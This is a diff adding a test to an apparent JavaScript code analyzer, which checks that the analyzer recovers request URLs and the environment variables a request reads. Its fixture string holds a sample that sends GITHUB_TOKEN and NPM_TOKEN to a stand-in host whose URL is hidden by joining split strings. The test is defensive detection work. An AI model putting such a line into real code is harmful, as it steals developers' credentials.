@@ -106,6 +106,16 @@ describe("code facts see built values", () => {
     assert.equal(s?.decoded, true);
   });
 
+  it("requests carry their URL and the environment names their arguments read, through a constant", () => {
+    const facts = analyzeJs(
+      'const auth = { t: process.env.GITHUB_TOKEN };\nfetch(["https://x", "dev/c"].join("."), { body: JSON.stringify(auth), headers: { k: process.env["NPM_TOKEN"] } });',
+      "index.js",
+    );
+    assert.deepEqual(facts.requests, [
+      { url: "https://x.dev/c", line: 2, env: ["GITHUB_TOKEN", "NPM_TOKEN"] },
+    ]);
+  });
+
   it("commands and deletes carry what is known of their text", () => {
     const facts = analyzeJs(
       'const cp = require("child_process"); const os = require("os"); const path = require("path");\n' +
